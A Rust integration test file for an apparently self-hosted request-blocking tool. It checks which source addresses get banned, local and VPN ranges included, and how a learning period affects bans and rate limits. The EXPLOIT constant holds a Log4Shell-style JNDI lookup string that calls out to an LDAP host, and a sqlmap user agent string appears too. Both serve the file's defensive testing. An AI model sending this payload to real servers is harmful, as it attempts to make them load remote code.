//! Whom it hits by default, and from when on: strangers at once for what they do, and for how
//! much of it only when the site has learnt; whoever is local, never.

use crate::behind::{self, Person, alerts, decision};
use crate::instance::{missing_pages, site};
use crate::support::wait_for;

const EXPLOIT: &str = "/?x=${jndi:ldap://203.0.113.9/a}";

/// A site whose mode is left out.
fn gradual() -> String {
    site("*", missing_pages()).replace("mode = \"enforce\"\n", "")
}

#[test]
fn local_vpn_and_carrier_nat_sources_raise_alerts_and_are_never_barred() {
    let instance = behind::start(&site("*", missing_pages()), "");
    for (what, address, value, is_barred) in [
        ("a stranger", "198.51.100.7", "198.51.100.7", true),
        ("a stranger", "2001:db8:7::7", "2001:db8:7::/64", true),
        ("this host", "127.0.7.7", "127.0.7.7", false),
        ("the network at home", "192.168.7.7", "192.168.7.7", false),
        ("Docker's network", "172.18.0.7", "172.18.0.7", false),
        ("a VPN", "10.8.0.7", "10.8.0.7", false),
        ("a carrier's NAT", "100.64.7.7", "100.64.7.7", false),
        ("Tailscale", "100.100.7.7", "100.100.7.7", false),
        ("a local IPv6 network", "fd00:7::7", "fd00:7::/64", false),
        ("the link", "169.254.7.7", "169.254.7.7", false),
    ] {
        let one = Person::at(&instance, address);
        one.get(EXPLOIT);
        let found = one.looks_for(40);
        assert_eq!(found < 40, is_barred, "DENY {what} {address}: {found}");
        let tool = one.called("sqlmap/1.8").get("/");
        assert_eq!(tool == 403, is_barred, "DENY {what} {address}: {tool}");
        let banned = decision(&instance, value).is_some();
        assert_eq!(banned, is_barred, "DENY {what} {address}");
        assert!(alerts(&instance, address) > 0, "{what} {address} is shown");
    }
}

#[test]
fn a_new_site_bars_for_what_is_done_at_once_and_for_how_much_when_it_has_learnt() {
    let sites = gradual();
    let mut instance = behind::start(&sites, "");
    let many = Person::at(&instance, "198.51.100.10");
    assert_eq!(many.looks_for(60), 60, "watched for seven days");
    assert!(alerts(&instance, "198.51.100.10") > 0);
    let shown = decision(&instance, "198.51.100.10");
    assert_eq!(shown.as_deref(), Some("observe"));

    let exploit = Person::at(&instance, "198.51.100.11");
    exploit.get(EXPLOIT);
    assert_eq!(exploit.get("/"), 403, "DENY from the first minute");
    let tool = Person::at(&instance, "198.51.100.12").called("sqlmap/1.8");
    assert_eq!(tool.get("/"), 403, "DENY from the first minute");

    // The week is over, by a shorter one; what was watched before bars nobody now.
    behind::rewrite(&instance, &sites, "[detection]\nlearn = \"1s\"");
    instance.say(&["reload"]);
    let mut number = 20;
    let learnt = || {
        number += 1;
        let address = format!("198.51.100.{number}");
        let found = Person::at(&instance, &address).looks_for(60);
        (found < 30 && decision(&instance, &address).as_deref() == Some("ban")).then_some(())
    };
    wait_for(
        "the site to have learnt",
        std::time::Duration::from_secs(10),
        learnt,
    );
    assert_eq!(many.get("/"), 404, "what was only shown bars nobody later");

    // How old a site is outlasts a restart.
    let ended = instance
        .process
        .terminate(std::time::Duration::from_secs(20));
    assert!(ended.is_some(), "{}", instance.log());
    let instance = crate::instance::Instance::again(instance.folder, instance.edge);
    let again = Person::at(&instance, "198.51.100.90");
    assert!(again.looks_for(60) < 30, "DENY at once after a restart");
}

#[test]
fn a_new_site_counts_requests_and_refuses_the_surplus_when_it_has_learnt() {
    let limits = "[edge.limits]\nrequests_per_second = 1\nrequest_burst = 3";
    let sites = gradual();
    let instance = behind::start(&sites, limits);
    let one = Person::at(&instance, "198.51.100.10");
    let passed = |person: &Person| (0..20).filter(|_| person.get("/") == 404).count();
    assert_eq!(passed(&one), 20, "watched for seven days");
    behind::rewrite(
        &instance,
        &sites,
        &format!("{limits}\n[detection]\nlearn = \"1s\""),
    );
    instance.say(&["reload"]);
    wait_for(
        "the surplus to be refused",
        std::time::Duration::from_secs(10),
        || (passed(&one) < 15).then_some(()),
    );
}
